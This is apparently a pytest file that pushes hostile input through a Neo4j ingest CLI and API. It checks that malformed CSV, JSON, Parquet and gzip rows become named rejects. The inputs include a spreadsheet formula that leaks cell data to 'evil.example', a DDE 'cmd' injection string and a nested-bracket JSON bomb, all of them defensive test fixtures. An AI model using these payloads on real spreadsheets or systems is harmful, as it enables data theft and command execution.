"""A hostile-input corpus through `ringtrace load` and `POST /v1/links`, against the real Neo4j.

Malformed CSV (unterminated quotes, wrong widths, bad quoting), huge fields, rich markup, spreadsheet
formulas, overflowing numbers, bytes that are not UTF-8, a byte-order mark, NUL bytes, JSON that is
not an object, damaged compressed files. Each must end as a named reject (file, line, field) or a
clear file-level error, never as a traceback; the good rows around them are loaded and counted in Neo4j.
"""

from __future__ import annotations

import csv
import gzip
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr
from typer.testing import CliRunner, Result

import neo4j
from api.app import create_app
from api.settings import ApiSettings
from graph.cli import app as cli_app
from graph.settings import Settings

_KEY = "hostile-input-ingest-key"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

# links.csv: (line, bytes). Good rows are g*; each h* row is bad in the way its comment says.
_LINKS: list[bytes] = [
    b"account_id,kind,value,first_seen,last_seen,count",
    b"g1,device,dev-1,2026-01-01T00:00:00Z,,1",
    b'h1,device,"dev-open,2026-01-01T00:00:00Z,,1',  # an unterminated quote
    b"g2,device,dev-2,2026-01-01T00:00:00Z,,1",
    b"h2,device," + b"x" * 300_000 + b",2026-01-01T00:00:00Z,,1",  # a 300 KB field
    b"g3,device,dev-3,2026-01-01T00:00:00Z,,1",
    b"h3,ip,[/],2026-01-01T00:00:00Z,,1",  # rich markup that crashed the summary
    b"h4,ip,[bold red]spoofed[/],2026-01-01T00:00:00Z,,1",
    b'h5,ip,"' + FORMULA.replace('"', '""').encode() + b'",2026-01-01T00:00:00Z,,1',  # a formula
    b"h6,device,dev-6,2026-01-01T00:00:00Z,,99999999999999999999",  # above 2^63: OverflowError in the driver
    b"h7,device,dev-7,2026-01-01T00:00:00Z,,9007199254740993",  # above 2^53
    b"h8,device,caf\xe9,2026-01-01T00:00:00Z,,1",  # latin-1, not UTF-8
    b"h9,device,a\x00b,2026-01-01T00:00:00Z,,1",  # a NUL byte
    b"\xef\xbb\xbfh10,device,dev-10,2026-01-01T00:00:00Z,,1",  # a byte-order mark in the middle of the file
    b"h11,device,dev-11",  # too few fields
    b'h12,device,"a"b,2026-01-01T00:00:00Z,,1',  # text after a closing quote
    b"g4,device,\"dev-4 \"\"quoted\"\"\",2026-01-01T00:00:00Z,,1",
    b"h13,device,dev-13,9999-12-31T23:59:59-23:59,,1",  # a time beyond year 9999 in UTC
    b"g5,email,=Ops@Example.org,2026-01-01T00:00:00Z,,1",  # a formula-like but valid email: kept
    b'h14,device,"never closed,2026-01-01T00:00:00Z,,1',  # an unterminated quote on the last line
]
_LINK_REJECTS = {3: "(row)", 5: "(row)", 7: "value", 8: "value", 9: "value", 10: "count", 11: "count", 12: "value",
                 13: "value", 14: "account_id", 15: "(row)", 16: "(row)", 18: "first_seen", 20: "(row)"}
_ACCOUNTS = (
    b"\xef\xbb\xbfaccount_id,created_at,email,note\n"
    b"g1,2026-01-01T00:00:00Z,g1@example.org,\"two\nlines\"\n"
    b"g6,2026-01-01T00:00:00Z,,[/]\n"
    b"h20,2026-01-01T00:00:00Z,a@" + b"." * 65536 + b"@,\n"  # the email that took the old regex 29 s
)
_KNOWN = "account_id,organization,source\ng1,[/]Krill [bold]Labs,=cmd|' /C calc'!A0\nh30,Org\x00,x\n"
_RANGES = "cidr,asn,organization,network\n203.0.113.0/24,AS99999999999999999999,X,corporate\n198.51.100.0/24,1,Y,vpn\n"


def _load(bundle: Path, rejects: Path) -> Result:
    result = CliRunner().invoke(cli_app, ["load", str(bundle), "--rejects", str(rejects)])
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def _rejects(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _accounts(driver: neo4j.Driver, database: str) -> set[str]:
    records, _, _ = driver.execute_query("MATCH (a:Account) RETURN a.account_id AS id", database_=database)
    return {r["id"] for r in records}


def test_a_hostile_bundle_loads_its_good_rows_and_names_every_bad_one(
    empty_db: neo4j.Driver, settings: Settings, tmp_path: Path
) -> None:
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "links.csv").write_bytes(b"\n".join(_LINKS) + b"\n")
    (bundle / "accounts.csv").write_bytes(_ACCOUNTS)
    (bundle / "known.csv").write_text(_KNOWN, encoding="utf-8")
    (bundle / "ip_ranges.csv").write_text(_RANGES, encoding="utf-8")
    rejects = tmp_path / "rejects.csv"

    result = _load(bundle, rejects)

    assert result.exit_code == 3, result.output
    for shown in ("[/]", "[bold red]spoofed[/]"):
        assert shown in result.output  # printed as text, not obeyed
    found = _rejects(rejects)
    links = {int(r["line"]): r["field"] for r in found if r["file"].endswith("links.csv")}
    assert links == _LINK_REJECTS
    assert {(r["line"], r["field"]) for r in found if r["file"].endswith("accounts.csv")} == {("5", "email")}
    assert {(r["line"], r["field"]) for r in found if r["file"].endswith("known.csv")} == {("3", "organization")}
    assert {(r["line"], r["field"]) for r in found if r["file"].endswith("ip_ranges.csv")} == {("2", "asn")}
    formula = next(r for r in found if r["line"] == "9")
    assert formula["value"].startswith("'=HYPERLINK")  # neutralised for spreadsheets
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in found for cell in r.values())
    assert all(len(r["value"]) <= 81 for r in found)

    db = settings.neo4j_database
    assert _accounts(empty_db, db) == {"g1", "g2", "g3", "g4", "g5", "g6"}
    records, _, _ = empty_db.execute_query(
        "MATCH (:Account)-[r]->(e) RETURN type(r) AS t, coalesce(e.fingerprint, e.address, e.name) AS v "
        "ORDER BY t, v", database_=db)
    assert [(r["t"], r["v"]) for r in records] == [
        ("HAS_EMAIL", "=ops@example.org"), ("HAS_EMAIL", "g1@example.org"),
        ("KNOWN_MEMBER_OF", "[/]Krill [bold]Labs"),
        ("USED_DEVICE", "dev-1"), ("USED_DEVICE", "dev-2"), ("USED_DEVICE", "dev-3"), ("USED_DEVICE", 'dev-4 "quoted"'),
    ]
    records, _, _ = empty_db.execute_query("MATCH (a:Account {account_id: 'g1'}) RETURN a.note AS note", database_=db)
    assert records[0]["note"] == "two\nlines"


def _bundle_with(tmp_path: Path, name: str, body: bytes) -> Path:
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / name).write_bytes(body)
    return bundle


def test_hostile_jsonl_lines_are_rejects(empty_db: neo4j.Driver, settings: Settings, tmp_path: Path) -> None:
    lines = [
        json.dumps({"account_id": "g1", "kind": "device", "value": "dev-1"}).encode(),
        b"[" * 20_000 + b"]" * 20_000,
        b'{"account_id": "h2", "kind": "device", "value": "d", "count": ' + b"9" * 5000 + b"}",
        b'{"account_id": "h3", "kind": "device", "value": "d", "count": 1e400}',
        b"{not json",
        b'"a string"',
        b'{"account_id": "h6\\ud800", "kind": "device", "value": "d"}',
        b'{"account_id": "h7", "kind": "device", "value": "[/]", "count": 99999999999999999999}',
        json.dumps({"account_id": "g2", "kind": "device", "value": FORMULA}).encode(),
    ]
    bundle = _bundle_with(tmp_path, "links.jsonl", b"\n".join(lines) + b"\n")
    result = _load(bundle, tmp_path / "rejects.csv")
    assert result.exit_code == 3, result.output
    assert [int(r["line"]) for r in _rejects(tmp_path / "rejects.csv")] == [2, 3, 4, 5, 6, 7, 8]
    assert _accounts(empty_db, settings.neo4j_database) == {"g1", "g2"}


def test_hostile_parquet_values_are_rejects(empty_db: neo4j.Driver, settings: Settings, tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    bundle = tmp_path / "bundle"
    bundle.mkdir()
    pq.write_table(pa.table({
        "account_id": ["g1", "h2", "h3", "h4", "g2"],
        "kind": ["device", "device", "ip", "device", "device"],
        "value": ["dev-1", "a\x00b", "[/]", "d", "[bold]dev-2[/]"],
        "count": ["1", "1", "1", "99999999999999999999", "1"],
    }), bundle / "links.parquet")
    result = _load(bundle, tmp_path / "rejects.csv")
    assert result.exit_code == 3, result.output
    assert [(r["line"], r["field"]) for r in _rejects(tmp_path / "rejects.csv")] == [
        ("2", "value"), ("3", "value"), ("4", "count")]
    assert _accounts(empty_db, settings.neo4j_database) == {"g1", "g2"}


def test_a_truncated_gzip_keeps_its_first_rows(empty_db: neo4j.Driver, settings: Settings, tmp_path: Path) -> None:
    body = b"account_id,kind,value\n" + b"".join(b"g%d,device,dev-%d\n" % (i, i) for i in range(30000))
    packed = gzip.compress(body)
    bundle = _bundle_with(tmp_path, "links.csv.gz", packed[: len(packed) // 2])
    result = _load(bundle, tmp_path / "rejects.csv")
    assert result.exit_code == 3, result.output
    [damage] = _rejects(tmp_path / "rejects.csv")
    assert damage["field"] == "(file)" and "compressed" in damage["reason"]
    loaded = _accounts(empty_db, settings.neo4j_database)
    assert len(loaded) == int(damage["line"]) - 2 and "g0" in loaded


@pytest.mark.parametrize(
    ("name", "body", "message"),
    [
        ("links.csv", b"4111 1111 1111 1111,[/]\n", "header lacks"),
        ("links.csv", "account_id,kind,value\n".encode("utf-16"), "UTF-16"),
        ("links.csv.gz", b"account_id,kind,value\n", "gzip"),
        ("links.parquet", b"PAR1 not parquet PAR1", "Parquet"),
    ],
)
def test_an_unreadable_file_is_a_clear_file_level_error(
    empty_db: neo4j.Driver, tmp_path: Path, name: str, body: bytes, message: str
) -> None:
    bundle = _bundle_with(tmp_path, name, body)
    result = _load(bundle, tmp_path / "rejects.csv")
    assert result.exit_code == 1, result.output
    output = " ".join(result.output.split())
    assert message in output and "4111111111111111" not in output.replace(" ", "")


@pytest.fixture
def client(empty_db: neo4j.Driver, settings: Settings) -> Iterator[TestClient]:
    api = create_app(settings.model_copy(update={"api_keys": SecretStr(f"{_KEY}:ingest")}),
                     ApiSettings(access_log=False))
    with TestClient(api, raise_server_exceptions=False) as test_client:
        yield test_client


def test_hostile_links_through_the_api(client: TestClient, empty_db: neo4j.Driver, settings: Settings) -> None:
    links = [
        {"account_id": "g1", "kind": "device", "value": "dev-1"},
        {"account_id": "h1", "kind": "device", "value": "a\u0000b"},
        {"account_id": "h2\u200b", "kind": "device", "value": "a\u0007b"},  # a bell character
        {"account_id": "h3", "kind": "ip", "value": "[/]"},
        {"account_id": "h4", "kind": "ip", "value": FORMULA},
        {"account_id": "\ufeffh5", "kind": "device", "value": "d"},
        {"account_id": "h6", "kind": "device", "value": "d", "first_seen": "9999-12-31T23:59:59-23:59"},
        {"account_id": "g2", "kind": "device", "value": "[bold]dev-2[/]"},
    ]
    response = client.post("/v1/links", content=json.dumps({"links": links}),
                           headers={"Authorization": f"Bearer {_KEY}", "Content-Type": "application/json"})
    assert response.status_code == 200, response.text
    body = response.json()
    assert [(e["index"], e["field"]) for e in body["errors"]] == [
        (1, "value"), (2, "value"), (3, "value"), (4, "value"), (5, "account_id"), (6, "first_seen")]
    assert (body["loaded"], body["rejected"]) == (2, 6)
    assert all(e["value"].isprintable() for e in body["errors"])
    assert _accounts(empty_db, settings.neo4j_database) == {"g1", "g2"}


def test_a_body_the_schema_refuses_is_a_422_not_a_500(client: TestClient) -> None:
    # A lone surrogate (which the Neo4j driver could not encode) is refused by the request schema.
    body = '{"links": [{"account_id": "h\\ud800", "kind": "device", "value": "d"}]}'
    response = client.post("/v1/links", content=body,
                           headers={"Authorization": f"Bearer {_KEY}", "Content-Type": "application/json"})
    assert response.status_code == 422 and "Traceback" not in response.text
